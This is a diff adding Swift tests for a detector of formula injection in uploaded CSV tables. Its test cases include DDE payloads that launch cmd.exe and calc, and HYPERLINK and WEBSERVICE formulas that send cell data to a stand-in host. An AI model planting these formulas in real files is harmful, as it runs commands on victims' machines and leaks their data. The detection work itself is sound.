@@ -1,0 +1,41 @@
+import MIMETypes
+import Testing
+
+@testable import MIMEDetection
+
+struct TableFormulasTests {
+    private static func features(_ text: String) -> [OtherReading.Feature] {
+        Array(text.utf8).withUnsafeBytes { TableFormulas.readings(in: $0) }.compactMap(\.feature)
+    }
+
+    @Test(arguments: [
+        "=cmd|' /c calc'!A0", "a,b\r\n1,+cmd|' /c calc'!A0", "a;-2+3+cmd|' /c calc'!D2", "a\t@SUM(1+1)*cmd|'x'!A0",
+        "\u{FEFF}=cmd|'x'!A0", "a,\"=cmd|' /c a,b'!A0\"", "a,  =cmd|/c!A0", "a,=A1&cmd|'x'!''",
+        "=DDE(\"a\";\"b\";\"c\")", "a,=rtd(\"x\",,\"y\")", "a,=C:\\Windows\\cmd.exe|'x'!A0",
+    ])
+    func linksToProgramsAreFound(_ text: String) { #expect(Self.features(text) == [.dataExchange]) }
+
+    @Test(arguments: [
+        "=HYPERLINK(\"http://e/?\"&A1)", "a,=1+webservice(\"http://e/\")", "a,\"=IMPORTXML(A1,\"\"//a\"\")\"",
+    ])
+    func addressesAreFound(_ text: String) { #expect(Self.features(text) == [.externalLink]) }
+
+    @Test(arguments: [
+        "", "=", "a,b\n-1,+49 30 1234\n", "=SUM(A1:A9)", "@john,- item | other!\n", "cmd|' /c calc'!A0", "a,b|c!d",
+        "-a|b,c!d", "=a|!b", "=a|'b", "=a|'b'!", "-,-|-!", "image(1),hyperlink(2)", "-see | this!that",
+    ])
+    func otherCellsAreNone(_ text: String) { #expect(Self.features(text).isEmpty) }
+
+    /// Cells that start like a link aren't read again and again.
+    @Test(arguments: ["=a|'", "=a|b", "=a", "=", "\"=a|", "=a|'b,", "=\"", ",\""]) func workIsLinear(_ cell: String) {
+        let table = String(repeating: cell, count: 1_000_000 / cell.utf8.count)
+        #expect(Self.features(table).isEmpty)
+    }
+
+    @Test func policyReadsTheWholeTable() {
+        let table = String(repeating: "1,2,3\n", count: 100_000) + "=cmd|'x'!A0,2,3\n"
+        let verdict = UploadPolicy(allowing: [.csv]).judge(bytes: Array(table.utf8), name: "a.csv")
+        #expect(verdict.refusal?.findings.map(\.code) == [.dataExchange])
+        #expect(verdict.refusal?.findings.first?.offset == 600_000)
+    }
+}
